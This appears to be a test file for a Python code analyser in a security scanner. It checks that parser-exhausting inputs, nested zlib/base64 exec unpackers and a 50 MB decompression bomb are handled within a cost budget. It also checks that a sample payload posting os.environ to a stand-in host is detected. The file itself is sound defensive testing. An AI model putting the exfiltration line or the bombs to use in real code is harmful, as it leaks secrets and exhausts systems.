import { deflateSync } from 'node:zlib'
import t from 'tap'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { cost } from '../cost.ts'

/** In yardsticks. Generous: the same files took minutes, or ended the process, before the limit that each one is for. */
const ENOUGH = 200

const base64 = (bytes: string | Buffer): string => Buffer.from(bytes).toString('base64')
const lines = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n')

/** Code that unpacks sixteen times itself, levels deep. */
function unpacking(levels: number): string {
  if (levels === 0) return 'import os; os.system("x")'
  const inner = unpacking(levels - 1)
  return lines(
    16,
    (index) =>
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${base64(deflateSync(`${inner}#${index}`))}')))`,
  )
}

/** Name, text, and what must be said of what was not read; undefined: it is read whole. */
const HOSTILE: readonly [name: string, text: string, incomplete: RegExp | undefined][] = [
  ['brackets that never close', '('.repeat(300_000), /syntax errors/],
  ['nested comprehensions', '[x for '.repeat(80_000), /syntax errors/],
  ['a sum of 300,000 terms', `${'a+'.repeat(300_000)}a`, undefined],
  ['200,000 attributes in a row', `a${'.b'.repeat(200_000)}`, /nested deeper/],
  ['100,000 calls in a row', `a${'.b()'.repeat(100_000)}`, /nested deeper/],
  ['nested lambdas', `${'lambda:'.repeat(50_000)}1`, /nested deeper|syntax/],
  ['f-strings in f-strings', 'f"{'.repeat(50_000), /syntax errors/],
  ['blocks in blocks', lines(800, (depth) => `${' '.repeat(depth)}if x:`), /./],
  ['line continuations without end', '\\\n'.repeat(100_000), undefined],
  ['names of characters without end', `"${'\\N{'.repeat(400_000)}"`, undefined],
  ['names of characters without end, where code may stand', `f"${'\\N{'.repeat(400_000)}"`, /syntax errors/],
  ['texts that begin and do not end', `'"`.repeat(200_000), /syntax errors/],
  ['decorators of nothing', '@a\n'.repeat(100_000), /syntax errors/],
  [
    'attempts that fail in one another',
    lines(200, (depth) => `${' '.repeat(depth)}try:`) + lines(200, (depth) => `${' '.repeat(199 - depth)}except +:`),
    /syntax errors/,
  ],
  ['choices without another', 'x if '.repeat(50_000), /syntax errors/],
  ['brackets of a with', 'with ('.repeat(20_000), /syntax errors/],
  ['operators before nothing', '-'.repeat(200_000), /nested deeper/],
  ['a text that doubles', `s = "a"\n${lines(30_000, () => 's = s + s')}`, undefined],
  [
    'a long text replaced again and again',
    `x = '${'a'.repeat(300_000)}'\n${lines(5000, () => "y = x.replace('a', 'bb')")}`,
    /too costly/,
  ],
  [
    'a long text decoded again and again',
    `import base64\nx = '${'QUFB'.repeat(90_000)}'\n${'base64.b64decode(x)\n'.repeat(3000)}`,
    /too costly/,
  ],
  [
    '20,000 classes, each the base of the next',
    lines(20_000, (index) => `class C${index}(C${index - 1}):\n  def m(self): return self.m()`),
    undefined,
  ],
  [
    '20,000 star imports',
    `${lines(20_000, (index) => `from m${index} import *`)}\n${'zz\n'.repeat(20_000)}`,
    /more programs, than are kept/,
  ],
  [
    '50,000 parameters',
    `def f(${lines(50_000, (index) => `a${index},`)}): pass\n${'f(1, 2)\n'.repeat(3000)}`,
    /than are kept/,
  ],
  ['code inside of code, sixteenfold and six deep', unpacking(6), /more code inside of code/],
  [
    'fifty megabytes of letters in a few bytes',
    `import base64, zlib\nexec(zlib.decompress(base64.b64decode('${base64(deflateSync(Buffer.alloc(50_000_000, 65)))}')))`,
    undefined,
  ],
  ['NUL, lone surrogates and byte order marks', `\0\uD800\uFEFF`.repeat(200_000), /syntax/],
  ['more text than is read', `x = '''${'a'.repeat(11_000_000)}'''`, /longer than/],
]

t.test('hostile text ends in time, and what was not read is said', async (t) => {
  for (const [name, text, incomplete] of HOSTILE) {
    const yardsticks = cost(() => {
      const summary = summarisePython('x.py', text)
      if (incomplete === undefined) t.equal(summary.incomplete, undefined, name)
      else t.match(summary.incomplete, incomplete, name)
    })
    t.ok(yardsticks < ENOUGH, `${name}: ${yardsticks}`)
  }
})

t.test('the payload is found in spite of what surrounds it', async (t) => {
  const payload = "import os, requests\nrequests.post('https://c.invalid', data=dict(os.environ))\n"
  const around = [
    'x = 1\n',
    `y = [${'1, '.repeat(20_000)}]\n`,
    `z = "${'\\x41'.repeat(50_000)}"\n`,
    'def broken(:\n    pass\n',
  ]
  for (const noise of around) {
    const { flows } = summarisePython('x.py', `${noise}${payload}${noise}`)
    t.ok(
      flows.some(({ source, sink }) => source.kind === 'env' && sink.kind === 'network' && sink.deferred !== true),
      noise.slice(0, 20),
    )
  }
})
